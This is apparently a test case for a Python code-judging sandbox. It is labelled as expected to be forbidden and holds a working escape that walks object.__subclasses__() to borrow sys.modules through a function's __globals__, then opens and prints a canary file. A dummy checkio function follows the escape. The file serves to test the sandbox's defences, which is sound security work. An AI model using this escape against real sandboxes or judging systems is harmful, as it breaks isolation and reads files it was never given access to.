# name: subclass_walk
# family: talk
# source: the talk, slides on read-only builtins and the tree of classes
# phase: import
# expects: FORBIDDEN
# must_not: a class of the library lends its globals and the canary file opens
# oracle: universal

ROOT = "/tmp/judge-attack"


def descend(kind, seen):
    for child in type.__subclasses__(kind):
        if child not in seen:
            seen.add(child)
            yield child
            yield from descend(child, seen)


def borrowed_modules():
    # No import and no builtin: only the family tree of the empty tuple.
    for kind in descend(().__class__.__bases__[0], set()):
        for member in list(vars(kind).values()):
            around = getattr(member, "__globals__", None)
            if around and hasattr(around.get("sys"), "modules"):
                return around["sys"].modules
    raise LookupError("nobody lends sys")


posix = borrowed_modules()["posix"]
handle = posix.open(ROOT + "/canary.txt", posix.O_RDONLY)
print("PWNED:subclass_walk:", posix.read(handle, 200))


def checkio(x):
    return x * 2
